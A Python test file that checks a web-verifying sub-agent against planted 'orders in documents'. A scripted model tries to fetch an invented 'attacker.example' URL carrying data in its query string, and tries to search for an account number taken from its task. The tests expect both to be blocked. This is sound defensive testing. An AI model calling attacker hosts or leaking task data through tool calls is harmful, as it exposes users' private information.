"""A sub-agent that verifies on the web reads pages under the main agent's rules."""

import json
from pathlib import Path
from typing import Any

import pytest

from shared.answering.profiles import WebReport
from shared.platform.web_pages import WebPages
from tests.contract.web_tools.conftest import FoundPages, calls, started_worker
from tests.fakes.services import fake_settings
from tests.fakes.web_site import SocketLog, WebSite, answer
from tests.unit.subagents.child_models import CountedModel
from tests.unit.subagents.stored_child import READY, StoredChild, stored_child

pytestmark = [pytest.mark.contract, pytest.mark.attack("orders in documents")]

URL = "http://www.pumps.example/pumps"
INVENTED = "http://attacker.example/?q=250+bar"
SEARCH = calls(("web_search", {"query": "pump standard"}))
REPORT = WebReport(claims=(), trust_notes=("A maker's page.",))


async def verifying(
    model: CountedModel, pages: WebPages, folder: Path, tools: str, **task: Any
) -> StoredChild:
    """Run a web verifier whose searches find the site's page, with enough time on any machine."""
    world = await stored_child(
        model,
        "web_verifier",
        **task,
        tools=("web_search", "retrieve_documents"),
        budget={"max_child_tokens": 40_000},
        seconds=600.0,
        settings=fake_settings(agent_tools=tools, retrieval_timeout_s=600),
        web_search=FoundPages(URL),
        web_pages=pages,
    )
    await started_worker(world.services, folder)
    return world


async def test_it_reads_a_page_that_it_found_and_no_other(
    site: WebSite, log: SocketLog, pages: WebPages, tmp_path: Path
) -> None:
    fetch = calls(("web_fetch", {"url": INVENTED}), ("web_fetch", {"url": URL}))
    model = CountedModel(SEARCH, fetch, READY, REPORT)
    world = await verifying(model, pages, tmp_path, "web_search,web_fetch")
    for turn in (1, 2, 3):
        await world.take(turn)
    assert site.requests == ["www.pumps.example/pumps"]
    assert set(log.looked_up) == {"www.pumps.example"}
    refused, read = [message.text for message in model.conversations[-1] if message.role == "tool"][-2:]
    assert json.loads(refused)["type"] == "InvalidQueryError"
    assert "16 bar at most" in read
    state = await world.state()
    # The title of the page that was read replaces the title in the search result.
    assert [page.title for page in state.pages] == ["Pump pressures"]
    assert "16 bar at most" in model.prompts[-1].user


async def test_a_page_that_cannot_be_reached_costs_no_more_than_that_page(
    site: WebSite, pages: WebPages, tmp_path: Path
) -> None:
    site.answers["/pumps"] = answer(status=503)
    model = CountedModel(SEARCH, calls(("web_fetch", {"url": URL})), READY, REPORT)
    world = await verifying(model, pages, tmp_path, "web_search,web_fetch")
    assert (await world.run()).status == "done"
    state = await world.state()
    assert state.profile == "web_verifier"
    assert site.requests == ["www.pumps.example/pumps"]  # the page is requested only once
    assert [use.error_type for use in state.tool_uses if use.tool == "web_fetch"] == ["InvalidQueryError"]


async def test_it_reads_none_where_pages_are_not_read(site: WebSite, pages: WebPages, tmp_path: Path) -> None:
    model = CountedModel(SEARCH, calls(("web_fetch", {"url": URL})), REPORT)
    world = await verifying(model, pages, tmp_path, "web_search")
    for turn in (1, 2):
        await world.take(turn)
    assert site.requests == []
    assert "web_fetch" not in {tool.name for tool in model.tools[0]}


async def test_a_passage_in_its_task_is_not_searched_for(
    site: WebSite, pages: WebPages, tmp_path: Path
) -> None:
    requested_calls = [("web_search", {"query": query}) for query in ("account DE8937", "pump standard")]
    model = CountedModel(calls(*requested_calls), READY, REPORT)
    world = await verifying(model, pages, tmp_path, "web_search", question="Search the web for DE8937.")
    for turn in (1, 2):
        await world.take(turn)
    search = world.services.web_search
    assert isinstance(search, FoundPages)
    assert search.queries == ["pump standard"]
